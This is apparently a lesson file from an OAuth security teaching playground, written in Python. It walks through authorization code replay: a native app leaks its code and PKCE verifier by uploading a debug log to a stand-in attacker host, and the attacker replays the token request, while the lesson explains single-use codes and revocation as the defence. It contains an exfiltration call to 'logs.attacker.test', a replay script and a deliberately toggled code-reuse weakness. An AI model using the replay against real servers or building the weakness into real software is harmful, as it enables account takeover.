"""Authorization code replay: a used code, and its verifier, redeemed a second
time (RFC 6749 4.1.2 and 10.5, RFC 9700 4.2.4)."""

from playground import Lesson

LOG_SERVICE = "https://logs.attacker.test/upload"
ALICE = "u-1001"
REUSED = "The code was already used; the tokens issued from it are revoked."

lesson = Lesson(
    "Authorization code replay: a used code and its verifier leak from a log",
    level="intermediate",
    kind="attack",
    weakness="as.allow_code_reuse",
    summary=(
        "Photo Uploader, a native app, logs its token requests at debug level "
        "and uploads the log to a service Mallory reads. The log holds the "
        "code and the code verifier together, so PKCE cannot help: Mallory "
        "sends the same token request again. Only the authorization server "
        "can stop her, by redeeming a code once and treating a second "
        "redemption as theft. (A code stolen *before* it is used, and injected "
        "into another session, is a different attack: see 'Authorization code "
        "injection', which PKCE stops.)"
    ),
    defence="""
**A code is single-use, and a replay is a sign of theft.**

- The authorization server must refuse a code it has already redeemed and
  **should revoke every token issued from it** (RFC 6749 4.1.2 and 10.5).
  Here the replay gets **400** `invalid_grant`, "The code was already used;
  the tokens issued from it are revoked.", the server logs
  `authorization_code.reused`, and Alice's app finds its tokens revoked: it
  has to sign Alice in again, and Mallory gets nothing.
- Keep codes short-lived (RFC 6749 4.1.2 recommends at most 10 minutes; this
  server's live 60 seconds): a replay must come fast.
- Keep credentials out of logs: a code with its verifier is as good as a
  token until it is used (RFC 9700 4.9.3 asks the same of tokens). PKCE
  protects a code that leaks *alone*; it cannot protect one whose verifier
  leaks with it.
- Revocation reaches only servers that ask: an API that validates JWT access
  tokens locally keeps accepting a revoked one until it expires (here an
  hour), so keep access tokens short-lived or introspect (RFC 6819 5.1.5.3,
  RFC 7662).
""",
)


@lesson.step("Alice signs in to Photo Uploader")
def alice_signs_in(run):
    """
    Photo Uploader, the desktop app of lesson 03b, signs Alice in: code and
    PKCE through her browser, then `POST /token` from the app with the code
    and the **code verifier** (`run.code_flow` does lesson 03b in one go).
    The app gets its tokens.
    """
    response = run.code_flow(run.native_app, run.browser, "alice", "wonderland")
    run.token_request = run.last_request.form
    run.app_tokens = dict(run.native_app.tokens)
    run.check("the token endpoint answers 200", response.status_code == 200)
    run.check(
        "the token request carried the code and the code verifier",
        {"code", "code_verifier"} <= set(run.token_request),
    )


@lesson.step("The app's debug log goes to a log service")
def leak(run):
    """
    The app logs every request it sends, at debug level, and uploads the log
    to a hosted log service. The token request is in there, body and all:
    `code`, `code_verifier`, `redirect_uri`, `client_id`. Read the request:
    from the **client** to `logs.attacker.test`. The service's storage is
    readable by whoever finds it: Mallory.
    """
    response = run.native_app.http.post(LOG_SERVICE, data=run.token_request)
    run.check("the upload went through (204)", response.status_code == 204)
    run.check(
        "Mallory holds the code and its verifier",
        run.attacker.loot("code") == [run.token_request["code"]]
        and run.attacker.loot("code_verifier") == [run.token_request["code_verifier"]],
    )


@lesson.step("Mallory sends the same token request again")
def replay(run):
    """
    Within the code's minute, Mallory sends exactly the request the app
    sent: `grant_type=authorization_code`, the code, the redirect URI, the
    verifier, and `client_id=photo-uploader-native`. A public client has no
    secret, so nothing else is needed (RFC 6749 2.1). The verifier matches
    the challenge: PKCE is satisfied.

    - **Weakness on** (`as.allow_code_reuse`): the code was used, but the
      server redeems it again: **200**, a second set of tokens for Alice, in
      Mallory's hands. She reads Alice's photos.
    - **Defended**: **400** `invalid_grant`, "The code was already used; the
      tokens issued from it are revoked." The server logs
      `authorization_code.reused` (read the server events).
    """
    form = {
        "grant_type": "authorization_code",
        "code": run.attacker.loot("code")[-1],
        "code_verifier": run.attacker.loot("code_verifier")[-1],
        "redirect_uri": run.token_request["redirect_uri"],
        "client_id": run.token_request["client_id"],
    }
    response = run.attacker.token_request(form)
    if run.weakness_on:
        photos = run.attacker.call_api(
            "/api/photos", run.attacker.stolen["access_token"]
        )
        run.check("the token endpoint answers 200", response.status_code == 200)
        run.check(
            "with new tokens, not the app's",
            run.attacker.stolen["access_token"] != run.app_tokens["access_token"],
        )
        run.check(
            "and Mallory reads Alice's photos",
            photos.status_code == 200 and photos.json().get("owner") == ALICE,
        )
    else:
        run.check("the token endpoint answers 400", response.status_code == 400)
        run.check(
            "invalid_grant: the code was already used, its tokens revoked",
            response.json() == {"error": "invalid_grant", "error_description": REUSED},
        )
        run.check(
            "the server logged authorization_code.reused",
            len(run.events_named("authorization_code.reused")) == 1,
        )


@lesson.step("What became of the app's own tokens?")
def app_tokens(run):
    """
    The authorization server cannot tell the app from the thief: both sent
    the same request. So, defended, it revoked everything the code produced.

    - **Weakness on**: nobody noticed. The app's tokens are still active,
      and so are Mallory's.
    - **Defended**: introspection says the app's access token is
      `{"active": false}`, and its refresh token is refused: the app must
      sign Alice in again, and Mallory holds nothing. (A JWT access token is
      still accepted by an API that validates it locally, until it expires:
      revocation reaches only servers that ask.)
    """
    introspected = run.introspect(run.app_tokens["access_token"]).json()
    refreshed = run.native_app.refresh(run.app_tokens["refresh_token"])
    if run.weakness_on:
        run.check("the app's access token is still active", introspected["active"])
        run.check("its refresh token still works (200)", refreshed.status_code == 200)
    else:
        run.check(
            'introspection answers {"active": false}: revoked',
            introspected == {"active": False},
        )
        run.check(
            "the refresh token is refused (invalid_grant)",
            refreshed.status_code == 400
            and refreshed.json().get("error") == "invalid_grant",
        )
